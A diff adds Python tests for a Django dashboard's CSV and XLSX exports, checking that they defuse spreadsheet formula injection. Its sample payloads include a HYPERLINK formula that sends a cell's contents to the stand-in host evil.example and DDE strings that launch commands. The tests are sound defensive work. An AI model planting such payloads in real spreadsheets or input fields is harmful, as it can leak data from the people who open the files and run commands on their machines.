@@ -3,6 +3,8 @@
 import csv
 import html
 import io
+import re
+import zipfile
 from datetime import date, datetime, time
 from decimal import Decimal
 from unittest.mock import ANY
@@ -14,7 +16,7 @@ from django.utils.translation import gettext
 from openpyxl import load_workbook
 from pypdf import PdfReader
 
-from dashboard.exports import DATE, DATETIME, TIME, _csv_value
+from dashboard.exports import DATE, DATETIME, TIME, _csv_value, safe_text
 from matchmaking.models import MeetingFeedback, MeetingRequest, MeetingStatus
 from matchmaking.services import meeting_book, meeting_cancel
 from missions.models import Mission
@@ -22,6 +24,7 @@ from tests.factories import (
     CompanyMemberFactory,
     MeetingSessionFactory,
     MissionFactory,
+    SectorFactory,
     StaffFactory,
     participants,
 )
@@ -514,3 +517,132 @@ def test_csv_values_are_the_same_in_every_language():
     assert _csv_value(time(9, 5), TIME) == "09:05"
     assert _csv_value(datetime(2027, 11, 13, 18, 5), DATETIME) == "2027-11-13 18:05"
     assert _csv_value(None, TIME) == ""
+
+
+# Formula injection (CWE-1236) --------------------------------------------------------------
+
+# What anybody can type where a staff member's spreadsheet shows it: each would run as a
+# formula, or start one, if a cell began with it.
+HOSTILE = (
+    '=HYPERLINK("http://evil.example/?d="&A1,"Cliquez")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "＝1+1",  # full width
+)
+TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
+KINDS = ("participants", "schedule", "requests", "outcomes", "feedback")
+
+
+@pytest.fixture
+def planted(session, staff):
+    """A held meeting and a cancelled one whose every free text was typed by an attacker
+    (names, cities, roles, phones, e-mails, the place, the request message, the cancellation
+    reason, the feedback comment). Returns, per export, the planted values it must show."""
+    held, cancelled = book(session, index=0), book(session, index=1)
+    meeting_cancel(meeting=cancelled, by=staff, staff=True, reason="x")
+    count = iter(range(1000))
+
+    def plant(instance, *names, suffix=""):
+        values = {
+            name: f"{HOSTILE[(n := next(count)) % len(HOSTILE)]}#{n}{suffix}" for name in names
+        }
+        type(instance).objects.filter(pk=instance.pk).update(**values)
+        return values
+
+    expect = {kind: set() for kind in KINDS}
+    firms = {}
+    for meeting in (held, cancelled):
+        firm = plant(meeting.company, "legal_name", "city")
+        if meeting is held:  # shown instead of the legal name
+            firm |= plant(meeting.company, "trade_name")
+        firms[meeting] = firm.get("trade_name", firm["legal_name"])
+        operator = plant(meeting.operator, "name", "city")
+        delegate = plant(meeting.delegate, "full_name", "role")
+        people = [
+            plant(p, "full_name", "phone") | plant(p, "email", suffix="@evil.example")
+            for p in (*meeting.company.members.all(), *meeting.operator.contacts.all())
+        ]
+        expect["participants"] |= {firms[meeting], firm["city"], *operator.values()}
+        expect["participants"] |= {*delegate.values(), *(v for p in people for v in p.values())}
+        shown = {firms[meeting], operator["name"]}
+        expect["outcomes"] |= shown | {delegate["full_name"]}
+        if meeting is held:
+            expect["schedule"] |= shown | {delegate["full_name"]}
+            expect["requests"] |= shown
+            expect["feedback"] |= shown | {people[0]["full_name"]}
+    sector = SectorFactory(name_fr=HOSTILE[0] + "#secteur")
+    held.company.sectors.add(sector)
+    expect["participants"].add(sector.name_fr)
+    expect["schedule"] |= set(plant(session, "place").values())
+    expect["outcomes"] |= set(plant(cancelled, "cancel_reason").values())
+    held.status = MeetingStatus.HELD
+    held.save(update_fields=["status"])
+    request = MeetingRequest.objects.create(
+        mission=session.mission, company=held.company, operator=held.operator, side="company"
+    )
+    expect["requests"] |= set(plant(request, "message").values())
+    answer = MeetingFeedback.objects.create(
+        meeting=held, side="company", stage="after", rating=4, outcome="deal",
+        estimated_value=Decimal("1500.50"), submitted_by=held.company.members.first(),
+    )  # fmt: skip
+    expect["feedback"] |= set(plant(answer, "comment").values())
+    return expect
+
+
+def _assert_defused(cells, expected):
+    """No text cell begins a formula, and every planted value is there behind a quote."""
+    assert [c for c in cells if c.startswith(TRIGGERS)] == []
+    assert expected <= {c[1:] for c in cells if c.startswith("'")}
+
+
+@pytest.mark.parametrize("kind", KINDS)
+def test_csv_exports_defuse_formulas_in_every_text_cell(client, staff, planted, kind):
+    client.force_login(staff)
+
+    rows, _ = read_csv(client.get(reverse("dashboard:export_csv", args=["sf-2027", kind])))
+
+    _assert_defused([value for row in rows for value in row], planted[kind])
+
+
+def test_xlsx_exports_write_text_as_strings_never_formulas(client, staff, planted):
+    client.force_login(staff)
+
+    response = client.get(reverse("dashboard:export_xlsx", args=["sf-2027", "all"]))
+
+    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
+        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
+        assert len(sheets) == len(KINDS)
+        for name in sheets:
+            assert not re.search(rb"<(\w+:)?f[\s>/]", archive.read(name)), name
+    workbook = read_xlsx(response)
+    for kind, sheet in zip(KINDS, workbook.worksheets, strict=True):
+        cells = [c for row in sheet.iter_rows() for c in row]
+        assert {c.data_type for c in cells} <= {"s", "inlineStr", "n", "d"}, kind
+        # XML reads a carriage return as a line feed.
+        expected = {v.replace("\r", "\n") for v in planted[kind]}
+        _assert_defused([c.value for c in cells if isinstance(c.value, str)], expected)
+    # Numbers and dates stay numbers and dates.
+    feedback = list(workbook.worksheets[4].iter_rows(min_row=2, values_only=True))
+    assert [(type(r[0]), r[7], r[9]) for r in feedback] == [(datetime, 4, 1500.5)]
+    assert isinstance(workbook.worksheets[1]["E2"].value, int)  # the table
+
+
+def test_safe_text_quotes_only_what_would_start_a_formula():
+    for value in HOSTILE:
+        assert safe_text(value) == "'" + value
+    for value in ("Banque Lagune", "a=b", "2027", "", " =1", "'=1"):
+        assert safe_text(value) == value
+
+
+def test_xlsx_export_drops_control_characters_that_xml_cannot_hold(client, staff, session):
+    meeting = book(session)
+    type(meeting.operator).objects.filter(pk=meeting.operator_id).update(name="\x1b=1+1\x07 Op")
+    client.force_login(staff)
+
+    response = client.get(reverse("dashboard:export_xlsx", args=["sf-2027", "schedule"]))
+
+    assert response.status_code == 200
+    assert read_xlsx(response).active["H2"].value == "'=1+1 Op"
